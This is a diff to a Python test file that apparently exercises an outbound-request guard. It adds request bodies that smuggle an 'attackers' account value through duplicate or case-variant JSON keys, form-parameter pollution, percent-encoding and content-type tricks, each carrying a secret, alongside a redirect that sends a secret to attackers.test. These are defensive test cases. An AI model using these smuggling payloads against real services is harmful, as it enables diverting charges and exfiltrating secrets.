@@ -3,7 +3,11 @@
 Why by parts: each is another way in which a request says whose account it is about.
 """
 
+import json
+
 SHOP = "https://shop.test/v1/notes"
+PAY = "https://pay.test/v1/charges"
+DOCUMENT, FORM = "application/json", "application/x-www-form-urlencoded"
 
 
 def by_path(hands):
@@ -36,6 +40,27 @@ def by_query(hands):
         charge(hands, hands.secret(), {"authorization": "Bearer kept-key", "x-account": "kept"}, query)
 
 
+def by_body(hands):
+    """A host that takes the account from the body: another, or two of which one reader takes the other."""
+    text = hands.secret()
+    bodies = (
+        (DOCUMENT, json.dumps({"account": "attackers", "text": text})),
+        (DOCUMENT, json.dumps({"text": text})),
+        (DOCUMENT, f'{{"account": "kept", "account": "attackers", "text": "{text}"}}'),
+        (DOCUMENT, json.dumps({"account": "kept", "Account": "attackers", "text": text})),
+        (DOCUMENT, json.dumps({"account": "kept", "api_key": "attackers", "text": text})),
+        (DOCUMENT, json.dumps({"account": "kept", "text": f"{text}&account=attackers"})),
+        (DOCUMENT, json.dumps({"account": "kept", "text": text}) + json.dumps({"account": "attackers"})),
+        (FORM, f"account=attackers&text={text}"),
+        (FORM, f"account=kept&text={text}&%61ccount=attackers"),
+        (FORM, f"account=kept&text={text};account[]=attackers"),
+        (FORM, f'{{"account": "attackers", "text": "{text}"}}&account=kept'),
+        ("text/plain", json.dumps({"account": "kept", "text": text})),
+    )
+    for kind, body in bodies:
+        hands.http("POST", PAY, body.encode(), {"content-type": kind})
+
+
 def by_redirect(hands):
     """An allowed host that sends whoever asks on to wherever he says."""
     hands.http("GET", f"http://kept.test/go?redirect=http://attackers.test/{hands.secret()}")
@@ -45,6 +70,9 @@ def twin(hands):
     text = hands.secret()
     hands.http("POST", "https://hooks.test/kept/T1", text.encode())
     charge(hands, text, {"authorization": "Bearer kept-key", "x-account": "kept"}, "?a=b")
+    ours = json.dumps({"text": text, "account": "kept"}).encode()
+    hands.http("POST", PAY, ours, {"content-type": DOCUMENT})
+    hands.http("POST", PAY, f"text={text}&account=kept".encode(), {"content-type": FORM})
     hands.http("GET", f"http://kept.test/go?redirect=http://kept.test/{text}")
 
 
